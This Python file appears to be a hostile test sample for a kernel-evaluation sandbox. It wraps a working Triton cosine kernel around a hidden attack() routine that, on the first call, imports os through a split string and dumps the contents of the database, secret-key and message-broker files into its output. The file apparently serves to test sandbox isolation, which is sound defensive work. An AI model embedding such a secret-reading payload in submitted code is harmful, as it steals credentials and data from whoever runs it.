"""Hostile: reach os by a string through an already imported module and read the site's data at rest (the
database file, the secret key file, the broker's messages), printing whatever it finds into its own output."""
import importlib

import torch
import triton
import triton.language as tl

SECRET_PATHS = __SECRET_PATHS__


def attack():
    os = importlib.import_module("o" + "s")
    for path in SECRET_PATHS:
        try:
            if os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for name in files:
                        with open(os.path.join(root, name), "rb") as handle:
                            print("LEAK", path, handle.read(4096))
            else:
                with open(path, "rb") as handle:
                    print("LEAK", path, handle.read(4096))
        except OSError as error:
            print("BLOCKED", path, type(error).__name__)


@triton.jit
def cos_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, tl.cos(x).to(out_ptr.dtype.element_ty), mask=mask)


_ATTACKED = []


def cos(x):
    if not _ATTACKED:
        _ATTACKED.append(True)
        attack()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    cos_kernel[(triton.cdiv(max(n, 1), 256),)](x, out, n, BLOCK=256)
    return out


def cos_out(x, *, out):
    out.copy_(cos(x))
    return out
